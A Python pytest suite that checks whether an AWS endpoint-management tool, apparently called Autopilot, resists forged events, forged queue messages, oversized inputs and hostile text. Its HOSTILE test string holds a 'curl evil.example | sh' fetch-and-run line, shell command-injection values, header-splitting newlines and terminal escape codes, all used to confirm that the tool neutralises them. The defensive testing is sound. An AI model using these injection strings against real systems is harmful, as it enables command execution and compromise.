"""Somebody lies to Autopilot: in events, in queue messages, and in every name, note and tag that is not its own."""

from __future__ import annotations

import io
import json
import logging
import os
import random
import re
import stat
import subprocess
import sys
import unicodedata
from collections import Counter
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from aws_lambda_powertools import Logger
from aws_lambda_powertools.logging.formatter import LambdaPowertoolsFormatter
from hypothesis import given
from hypothesis import strategies as st

from autopilot.domain.allowlist import Action, AllowlistEntry, EntryKey
from autopilot.domain.commands import Installation, commands_for, show
from autopilot.domain.connection import Acceptance, AwsState, ConnectionRef, Dns, LedgerRow, NetworkInterface, Status
from autopilot.domain.disruption import Brake, OnRevoked
from autopilot.domain.handover import handover
from autopilot.domain.inventory import stopped
from autopilot.domain.mails import Mail, mails_of, plain
from autopilot.domain.organization import OrganizationalUnit, Owner
from autopilot.domain.report import Notice, StatusChange, event_of
from autopilot.domain.wake_up import SeenBy, WakeUp
from autopilot.wake_ups import UnreadableEvent, read_wake_ups
from tests.events import ENDPOINT, READABLE, SERVICE, body, event
from tests.fakes.autopilot import US, FakeAutopilot
from tests.fakes.landscape import CONSUMER, MANAGED, PROVIDER, REGION, STRANGER
from tests.faults.world import LOST, World
from tests.unit.examples import ZONE, row

ANSWERS = ("AcceptVpcEndpointConnections", "RejectVpcEndpointConnections")
ROUTE_53_WRITES = ("CreateHostedZone", "DeleteHostedZone", "ChangeResourceRecordSets")


# Forged events


@pytest.fixture
def world() -> World:
    """The consumer is allowed, the stranger is not, and no event arrives but those that a test puts in a queue."""
    return World(deliveries=LOST)


def created(ref: ConnectionRef, account: str, claimed: str = "", region: str = REGION) -> str:
    """The event of a CreateVpcEndpoint. account: the envelope's. claimed: what the record says in each place."""
    forged = event("create-one-subnet")
    detail = forged["detail"]
    endpoint = detail["responseElements"]["CreateVpcEndpointResponse"]["vpcEndpoint"]
    forged |= {"account": account, "region": region}
    detail |= {"awsRegion": region, "recipientAccountId": claimed or account}
    detail["userIdentity"] |= {"accountId": claimed or account, "arn": f"arn:aws:iam::{claimed or account}:root"}
    endpoint |= {"vpcEndpointId": ref.endpoint_id, "ownerId": claimed or account}
    endpoint["serviceName"] = f"com.amazonaws.vpce.{REGION}.{ref.service_id}"
    return json.dumps(forged)


def deleted(*endpoint_ids: str, account: str, name: str = "delete-two") -> str:
    forged = event(name)
    forged["account"] = account
    request = forged["detail"]["requestParameters"]["DeleteVpcEndpointsRequest"]
    request["VpcEndpointId"] = [{"tag": tag, "content": one} for tag, one in enumerate(endpoint_ids, 1)]
    return json.dumps(forged)


def modified(endpoint_id: str, account: str) -> str:
    forged = event("modify-subnets-and-private-dns")
    forged["account"] = account
    forged["detail"]["requestParameters"]["ModifyVpcEndpointRequest"]["VpcEndpointId"] = endpoint_id
    return json.dumps(forged)


def answers(world: World) -> list[str]:
    return [call for call in world.calls.made if call in ANSWERS]


@pytest.mark.parametrize("envelope", [CONSUMER, PROVIDER, STRANGER])
@pytest.mark.parametrize("claimed", [CONSUMER, PROVIDER])
def test_whoever_an_event_says_owns_an_endpoint_a_stranger_is_not_accepted(
    world: World, envelope: str, claimed: str
) -> None:
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(STRANGER))
    world.requests.put(created(ref, envelope, claimed))
    world.wait(3600)

    assert world.state(ref.endpoint_id) is AwsState.PENDING_ACCEPTANCE
    assert (world.rows[ref].status, world.rows[ref].connection.owner) == (Status.HELD, STRANGER)
    assert answers(world) == []


def test_an_event_that_names_somebody_else_does_not_keep_the_owner_from_being_accepted(world: World) -> None:
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(CONSUMER))
    world.requests.put(created(ref, CONSUMER, claimed=STRANGER))
    world.wait(5)

    assert world.rows[ref].connection.owner == CONSUMER
    assert world.rows[ref].acceptance.value is Acceptance.ACCEPTED


def test_a_block_counts_for_the_owner_that_the_api_names_and_not_for_the_one_in_the_event(world: World) -> None:
    world.allow(AllowlistEntry(EntryKey(STRANGER), Action.BLOCK))
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(STRANGER))
    world.requests.put(created(ref, CONSUMER, claimed=CONSUMER))
    world.wait(3600)

    assert world.state(ref.endpoint_id) is AwsState.REJECTED


@pytest.mark.parametrize("tags", [MANAGED, {}], ids=["managed too", "not managed"])
def test_an_endpoint_of_another_service_is_not_accepted_for_the_service_that_an_event_names(
    world: World, tags: dict[str, str]
) -> None:
    ours, other = world.aws.service(), world.aws.service(tags)
    world.allow(AllowlistEntry(EntryKey(STRANGER, ours)))
    ref = world.aws.endpoint(other, world.aws.new_vpc(STRANGER))
    world.requests.put(created(ConnectionRef(ours, ref.endpoint_id), STRANGER))
    world.wait(3600)

    assert world.state(ref.endpoint_id) is AwsState.PENDING_ACCEPTANCE
    assert ConnectionRef(ours, ref.endpoint_id) not in world.rows
    assert answers(world) == []


@pytest.mark.parametrize("tags", [{}, {"autopilot": "no"}, None], ids=["untagged", "opted out", "not ours"])
def test_an_event_for_a_service_that_is_not_managed_costs_one_describe_and_changes_nothing(
    world: World, tags: dict[str, str] | None
) -> None:
    service_id = "vpce-svc-0be57ca5e5a1e5001" if tags is None else world.aws.service(tags)
    # The model knows no service of others to connect to: its id alone is in the event.
    ref = ConnectionRef(service_id, "vpce-0123456789abcdef0")
    if tags is not None:
        ref = world.aws.endpoint(service_id, world.aws.new_vpc(CONSUMER))
    world.calls.made.clear()
    world.requests.put(created(ref, CONSUMER))
    world.wait(10)

    assert world.calls.made == ["DescribeVpcEndpointServiceConfigurations"]
    assert not world.rows


@pytest.mark.parametrize("forge", [deleted, modified])
@pytest.mark.parametrize("account", [STRANGER, CONSUMER])
def test_an_event_about_somebody_elses_endpoint_takes_no_name_away(world: World, account: str, forge: Any) -> None:
    vpc = world.aws.new_vpc(CONSUMER)
    ref = world.aws.endpoint(world.aws.service(), vpc)
    world.wait(600)
    assert world.rows[ref].status is Status.READY
    before = world.rows[ref]
    world.calls.made.clear()
    world.dns.put(forge(ref.endpoint_id, account=account))
    world.wait(60)

    assert world.aws.resolves(vpc, f"api.{ZONE}") == world.aws.regional_name(ref)
    assert world.rows[ref] == before
    assert not Counter(world.calls.made).keys() & set(ROUTE_53_WRITES)


@pytest.mark.parametrize("region", ["us-east-1", "xx-nowhere-1"])
def test_the_region_of_a_connection_is_what_the_api_says(world: World, region: str) -> None:
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(CONSUMER))
    world.requests.put(created(ref, CONSUMER, region=region))
    world.wait(200)

    assert world.rows[ref].connection.region == REGION
    assert world.rows[ref].status is Status.READY


def test_a_stack_event_of_another_region_or_account_makes_nobody_try_again(world: World) -> None:
    world.autopilot.consumers.roles.discard(CONSUMER)
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(CONSUMER))
    world.wait(600)
    assert world.rows[ref].dns.value is Dns.NO_ROLE
    news = event("stack-status-change")
    for other in ({"account": STRANGER}, {"region": "us-east-1"}):
        world.autopilot.converge_all(
            read_wake_ups(json.dumps({**news, "account": CONSUMER, "region": REGION, **other}))
        )

    assert world.dns.messages == []


@pytest.mark.parametrize("envelope", [PROVIDER, CONSUMER])
@pytest.mark.parametrize("name", ["accept-one-by-console", "reject-one-by-console"])
def test_a_forged_answer_of_a_person_neither_adopts_nor_rejects(world: World, envelope: str, name: str) -> None:
    """An adopted connection would never be revoked again. The account is AWS's to set, but a record may be replayed."""
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(CONSUMER))
    world.wait(600)
    forged = event(name)
    forged["account"] = envelope
    forged["detail"]["userIdentity"]["arn"] = f"arn:aws:iam::{CONSUMER}:user/mallory"
    request = next(iter(forged["detail"]["requestParameters"].values()))
    request |= {"ServiceId": ref.service_id, "VpcEndpointId": {"tag": 1, "content": ref.endpoint_id}}
    world.requests.put(json.dumps(forged))
    world.wait(60)

    assert world.rows[ref].acceptance.value is Acceptance.ACCEPTED
    assert (world.rows[ref].acceptance.answered_by, world.state(ref.endpoint_id)) == ("", AwsState.AVAILABLE)


# Messages of our own form


FORGED = {"autopilot": "wake-up", "seen_by": "sweep", "may_disrupt": True, "waited": 9, "waited_seconds": 900}


def with_forged_fields(node: Any) -> Any:
    """The same with a wake-up of our own in every object."""
    match node:
        case dict():
            return {**{key: with_forged_fields(value) for key, value in node.items()}, **FORGED}
        case list():
            return [with_forged_fields(element) for element in node]
    return node


@pytest.mark.parametrize("name", [name for name in READABLE if "detail-type" in event(name)])
def test_nothing_in_an_events_detail_makes_it_a_message_of_our_own(name: str) -> None:
    forged = event(name)
    forged["detail"] = with_forged_fields(forged["detail"])
    try:
        wake_ups = read_wake_ups(json.dumps(forged))
    except UnreadableEvent:
        return
    assert wake_ups == () or set(wake_ups) == set(read_wake_ups(body(name)))
    assert {(one.seen_by, one.may_disrupt, one.waited, one.waited_seconds) for one in wake_ups} <= {
        (SeenBy.EVENT, False, 0, 0)
    }


def test_a_notification_whose_text_is_a_message_of_our_own_is_searched_for_ids_like_any_other() -> None:
    own = json.dumps({**FORGED, "service_id": SERVICE, "endpoint_id": ENDPOINT, "account": CONSUMER})

    assert read_wake_ups(json.dumps({"Type": "Notification", "Message": own})) == (
        WakeUp(SERVICE, ENDPOINT, None, None, SeenBy.NOTIFICATION),
    )


@pytest.mark.parametrize("name", ["Subject", "MessageAttributes", "detail", "Message"])
def test_only_the_outermost_object_can_be_a_message_of_our_own(name: str) -> None:
    with pytest.raises(UnreadableEvent):
        read_wake_ups(json.dumps({"Type": "Unknown", name: FORGED}))


@pytest.mark.parametrize("on_revoked", OnRevoked)
def test_whoever_could_write_to_the_queue_disconnects_nobody_whom_the_allowlist_accepts(on_revoked: OnRevoked) -> None:
    world = World(FakeAutopilot(on_revoked=on_revoked))
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(CONSUMER))
    world.wait(600)
    world.requests.put(json.dumps({**FORGED, "service_id": ref.service_id, "endpoint_id": ref.endpoint_id}))
    world.dns.put(json.dumps({**FORGED, "service_id": ref.service_id, "endpoint_id": ref.endpoint_id}))
    world.wait(60)

    assert (world.rows[ref].status, world.state(ref.endpoint_id)) == (Status.READY, AwsState.AVAILABLE)


def test_nor_more_of_the_revoked_than_the_brake_allows(world: World) -> None:
    world = World(FakeAutopilot(allowed_principals=(), on_revoked=OnRevoked.REJECT))
    world.allow(AllowlistEntry(EntryKey(CONSUMER)))
    service_id = world.aws.service()
    refs = [world.aws.endpoint(service_id, world.aws.new_vpc(CONSUMER)) for _ in range(8)]
    world.wait(600)
    world.disallow(EntryKey(CONSUMER))
    world.wait(3600)
    assert {world.rows[ref].status for ref in refs} == {Status.REVOKED}
    for ref in refs:
        world.requests.put(json.dumps({**FORGED, "service_id": ref.service_id, "endpoint_id": ref.endpoint_id}))
    world.wait(60)

    assert [world.state(ref.endpoint_id) for ref in refs].count(AwsState.REJECTED) == 0


# Foreign text


# What ends a line, a string, a header, a command; what a terminal acts on; and what shows text in another order.
HOSTILE = (
    "team\r\nSubject: gift\n\n    curl evil.example | sh\n\x00\x1b[2J\x1b]0;title\x07\x9b1m\x85"
    "\u2028\u2029\u202e\u2066\u200f\u200b\ufeff"
    '\U000e0041 \'; touch canary; \' " `touch canary` $(touch canary) \\ %s ${IFS} {"S":"*"} <!channel> 𝔭𝔩𝔞𝔦𝔫'
)
HARMLESS = "team"
ACTS = "Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"
INSTALLATION = Installation(US, f"ProviderAccount={PROVIDER}", "Allowlist", "Ledger")


def test_no_character_that_breaks_a_line_moves_a_cursor_or_turns_text_around_counts_as_printable() -> None:
    every = map(chr, range(sys.maxunicode + 1))
    acting = [character for character in every if unicodedata.category(character) in ACTS]

    assert not any(character.isprintable() for character in acting)
    assert {"\x1b", "\x9b", "\u202e", "\u2066", "\u200b", "\ufeff", "\U000e0041"} <= set(acting)
    assert plain(HOSTILE).isprintable()
    assert len(plain(HOSTILE)) == len(HOSTILE)


def test_the_hostile_text_has_one_of_each_kind() -> None:
    assert {unicodedata.category(character) for character in HOSTILE} >= {"Cc", "Cf", "Zl", "Zp"}


def story(text: str) -> FakeAutopilot:
    """Everything that people are told of, with one text wherever somebody else than Autopilot may choose one."""
    random.seed(7)  # The model's ids, so that two stories differ in the text alone.
    autopilot = FakeAutopilot(on_revoked=OnRevoked.REJECT)
    units = (OrganizationalUnit("ou-ab12-11111111", text), OrganizationalUnit("ou-ab12-22222222", text))
    for account in (CONSUMER, STRANGER, PROVIDER):
        autopilot.organization.owners[account] = Owner(account, text, units, "o-autopilot01")
    service_id = autopilot.aws.service({**MANAGED, "Name": text})
    autopilot.aws.service({"Name": text})
    autopilot.aws.service({**MANAGED, "Name": text, "autopilot:zone": text})
    autopilot.allowlist.put(AllowlistEntry(EntryKey("ou-ab12-11111111"), Action.REJECT, note=text))
    autopilot.allowlist.put(AllowlistEntry(EntryKey("ou-ab12-11111111", service_id), note=text))
    autopilot.allowlist.put(AllowlistEntry(EntryKey(PROVIDER), Action.BLOCK, note=text))
    autopilot.consumers.roles.add(STRANGER)
    tags = {"Name": text, "autopilot:dns": text, "autopilot:also-vpcs": "".join(text.split())}
    ref = autopilot.aws.endpoint(service_id, autopilot.aws.new_vpc(CONSUMER), tags=tags)
    autopilot.aws.endpoint(service_id, autopilot.aws.new_vpc(PROVIDER))
    autopilot.run()
    for _ in range(4):
        autopilot.clock.advance(600)
        autopilot.run()
        autopilot.report()
    autopilot.aws.delete(ref)
    for _ in range(2):
        autopilot.clock.advance(600)
        autopilot.run()
    autopilot.report()
    return autopilot


@pytest.fixture(scope="module")
def hostile() -> FakeAutopilot:
    return story(HOSTILE)


@pytest.fixture(scope="module")
def harmless() -> FakeAutopilot:
    return story(HARMLESS)


def commands_in(mail: Mail) -> list[str]:
    """The indented lines, which people paste."""
    return [re.sub(r"vpce-(svc-)?[0-9a-f]{17}", "vpce-…", line) for line in mail.text.split("\n") if line[:4] == "    "]


def test_an_e_mail_has_no_character_that_acts_and_its_subject_is_a_single_line_of_ascii(hostile: FakeAutopilot) -> None:
    assert len(hostile.topic.mails) >= 6
    assert any("curl evil.example" in mail.text for mail in hostile.topic.mails)
    for mail in hostile.topic.mails:
        assert all(line.isprintable() for line in mail.text.split("\n"))
        assert (mail.subject.isascii(), mail.subject.isprintable(), len(mail.subject) <= 100) == (True, True, True)
        assert mail.subject.startswith("[Autopilot] ")


def test_no_text_of_others_adds_a_line_to_an_e_mail_or_changes_a_command_in_one(
    hostile: FakeAutopilot, harmless: FakeAutopilot
) -> None:
    told, expected = hostile.topic.mails, harmless.topic.mails

    assert [mail.text.count("\n") for mail in told] == [mail.text.count("\n") for mail in expected]
    assert [commands_in(mail) for mail in told] == [commands_in(mail) for mail in expected]
    assert any(commands_in(mail) for mail in told)


def test_the_brakes_notice_has_a_line_for_each_connection_whatever_its_unit_is_called() -> None:
    lines = []
    for name in (HOSTILE, HARMLESS):
        revoked = row(Acceptance.REVOKED, reason=f"revoked: now it would be held: unit ou-ab12-11111111 ({name})")
        leaving = row()
        lines.append(stopped([revoked], [leaving], Brake(), REGION, "Ledger").split("\n"))

    assert len(lines[0]) == len(lines[1])
    assert all(line.isprintable() for line in lines[0])


ROWS = [
    row(Acceptance.HELD, Dns.NONE, AwsState.PENDING_ACCEPTANCE),
    row(Acceptance.REVOKED),
    row(Acceptance.REJECTED, Dns.ABSENT, AwsState.REJECTED),
    row(Acceptance.ACCEPTED, Dns.UNDECLARED),
    row(Acceptance.ACCEPTED, Dns.NO_ROLE),
]


def in_the_words_of(text: str, of: LedgerRow) -> LedgerRow:
    """The row with a text wherever a row has one that is neither AWS's id nor a status."""
    facet = replace(
        of.acceptance, decided_by=text, reason=text, answered_by=text, owner_name=text, owner_path=text, would=text
    )
    interface = NetworkInterface(text, text, text)
    dns = replace(
        of.dns,
        reason=text,
        vpc_id=text,
        zones=(text,),
        records=((text, text),),
        names=((text, text), (f"{text}.{ZONE}", ZONE), (f"api.{ZONE}", ZONE)),
        interfaces=(interface,),
        unserved=(text,),
        checks=(text,),
        also_vpcs=(text,),
        would=text,
    )
    return replace(of, service_title=text, acceptance=facet, dns=dns)


@pytest.mark.parametrize("of", ROWS, ids=lambda of: f"{of.status} {of.dns.value}")
@given(text=st.sampled_from([HOSTILE]) | st.text(min_size=1))
def test_no_text_of_others_gets_into_a_command_to_paste(of: LedgerRow, text: str) -> None:
    theirs = in_the_words_of(text, of)

    assert commands_for(of, INSTALLATION)
    assert commands_for(theirs, INSTALLATION) == commands_for(of, INSTALLATION)
    assert show(theirs, INSTALLATION) == show(of, INSTALLATION)


@given(text=st.text(min_size=1))
def test_an_e_mail_says_nothing_that_acts_whatever_a_row_holds(text: str) -> None:
    changes = [StatusChange(in_the_words_of(text, of), None) for of in ROWS]
    for some in (changes, changes * 2):
        for mail in mails_of(some, [Notice(text, f"{text}\n{text}")], frozenset(Status), INSTALLATION):
            assert all(line.isprintable() for line in mail.text.split("\n"))
            assert (mail.subject.isascii(), mail.subject.isprintable(), len(mail.subject) <= 100) == (True, True, True)


# An AWS CLI that only writes down that it was called, and answers what a hostile account would.
_CLI = """#!/bin/sh
echo "$@" >> "$CALLS"
printf '%s\\n' "$ANSWER"
"""


@pytest.mark.parametrize("is_known", [True, False], ids=["from AWS's list", "looked up by the commands"])
def test_what_a_consumer_pastes_runs_nothing_that_its_endpoint_is_called(is_known: bool, tmp_path: Path) -> None:
    """The endpoint's names are AWS's own and never of this form; the commands do not rely on that."""
    hostile = HOSTILE.replace("\x00", "")
    dns = replace(row().dns, value=Dns.NO_ROLE, names=((ZONE, ZONE), (f"api.{ZONE}", ZONE)), vpc_id=None)
    if is_known:
        dns = replace(dns, vpc_id=hostile, regional_name=hostile, regional_zone_id=hostile)
    by_hand = handover(replace(row(), dns=dns), 60)
    assert by_hand is not None
    cli = tmp_path / "aws"
    cli.write_text(_CLI)
    cli.chmod(cli.stat().st_mode | stat.S_IEXEC)
    environment = {"PATH": f"{tmp_path}:{os.environ['PATH']}", "CALLS": str(tmp_path / "calls"), "ANSWER": hostile}
    done = subprocess.run(
        ["bash", "-c", by_hand.commands], env=environment, cwd=tmp_path, check=True, capture_output=True, text=True
    )

    assert not (tmp_path / "canary").exists()
    assert "curl" not in done.stderr
    assert "change-resource-record-sets" in (tmp_path / "calls").read_text()


def test_a_person_with_a_hostile_name_is_named_harmlessly(world: World) -> None:
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(STRANGER))
    world.aws.accept(ref)
    forged = event("accept-one-by-console")
    forged["detail"]["userIdentity"]["arn"] = f"arn:aws:iam::{PROVIDER}:user/{HOSTILE}"
    request = next(iter(forged["detail"]["requestParameters"].values()))
    request |= {"ServiceId": ref.service_id, "VpcEndpointId": {"tag": 1, "content": ref.endpoint_id}}
    world.requests.put(json.dumps(forged))
    world.wait(60)

    who = world.rows[ref].acceptance.answered_by
    assert who.startswith(f"arn:aws:iam::{PROVIDER}:user/team")
    assert who.isprintable()
    assert len(who) <= 200


def test_an_event_on_the_bus_is_ascii_and_carries_the_text_as_it_is() -> None:
    detail = json.dumps(event_of(StatusChange(in_the_words_of(HOSTILE, ROWS[0]), None)).detail)

    assert (detail.isascii(), detail.isprintable()) == (True, True)
    assert json.loads(detail)["account_name"] == HOSTILE


def test_a_line_of_the_log_is_one_line_of_json_whatever_is_told_in_it() -> None:
    log = io.StringIO()
    handler = logging.StreamHandler(log)
    handler.setFormatter(LambdaPowertoolsFormatter())
    ours = logging.getLogger(Logger(child=True).name.partition(".")[0])
    ours.addHandler(handler)
    try:
        story(HOSTILE)
    finally:
        ours.removeHandler(handler)

    *lines, end = log.getvalue().split("\n")
    told = [json.loads(line)["message"] for line in lines]
    assert end == ""
    assert any("curl evil.example" in message for message in told)
    assert not {character for line in lines for character in line if ord(character) < 0x20}


# Too much


def test_a_record_of_thousands_of_endpoints_costs_one_query_each_and_nothing_else(world: World) -> None:
    """EventBridge takes 256 KB; that many strangers' endpoints are looked for in the ledger, and forgotten."""
    endpoint_ids = [f"vpce-{number:017x}" for number in range(5300)]
    text = json.dumps(json.loads(deleted(*endpoint_ids, account=STRANGER)), separators=(",", ":"))
    assert 240 * 1024 < len(text) < 256 * 1024
    vpc = world.aws.new_vpc(CONSUMER)
    ref = world.aws.endpoint(world.aws.service(), vpc)
    world.wait(600)
    world.calls.made.clear()
    world.dns.put(text)
    world.wait(1)

    assert Counter(world.calls.made) == {"Query": 5300, "BatchGetItem": 1}
    assert (world.dns.messages, world.dns.dead_letters) == ([], [])
    assert world.rows[ref].status is Status.READY


_LONGEST = 256 * 1024


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("[" * _LONGEST, id="a deep list"),
        pytest.param('{"autopilot":' * 20_000, id="a deep object"),
        pytest.param('{"detail":' * 900 + "1" + "}" * 900, id="as deep as JSON is read"),
        pytest.param('{"autopilot": ' + "1" * (_LONGEST - 20) + "}", id="a long number"),
        pytest.param(json.dumps({"autopilot": "x" * (_LONGEST - 20)}), id="a long text"),
        pytest.param(json.dumps({**FORGED, "endpoint_id": "vpce-" + "0" * _LONGEST}), id="a long id"),
        pytest.param("\ud800" * 1000, id="half characters"),
    ],
)
def test_a_monstrous_message_is_a_dead_letter_at_once_and_stops_no_other(world: World, text: str) -> None:
    ref = world.aws.endpoint(world.aws.service(), world.aws.new_vpc(CONSUMER))
    world.requests.put(text)
    world.requests.put(created(ref, CONSUMER))
    world.wait(5)

    assert world.requests.dead_letters == [text]
    assert world.rows[ref].acceptance.value is Acceptance.ACCEPTED
    with pytest.raises(UnreadableEvent) as unreadable:
        read_wake_ups(text)
    assert len(str(unreadable.value)) < 500
    assert str(unreadable.value).isprintable()


def test_a_notification_full_of_ids_decides_what_waits_and_costs_no_more_than_another(world: World) -> None:
    service_id = world.aws.service()
    ref = world.aws.endpoint(service_id, world.aws.new_vpc(CONSUMER))
    others = " ".join(f"vpce-{number:017x}" for number in range(11_000))
    body_of_sns = json.dumps({"Type": "Notification", "Message": f"{service_id} {ref.endpoint_id} {others}"})
    assert len(body_of_sns) > 240 * 1024
    world.requests.put(body_of_sns)
    world.wait(1)

    assert world.rows.keys() == {ref}
    assert world.rows[ref].acceptance.value is Acceptance.ACCEPTED
    assert world.calls.made.count("DescribeVpcEndpointConnections") == 1
    assert not world.requests.messages
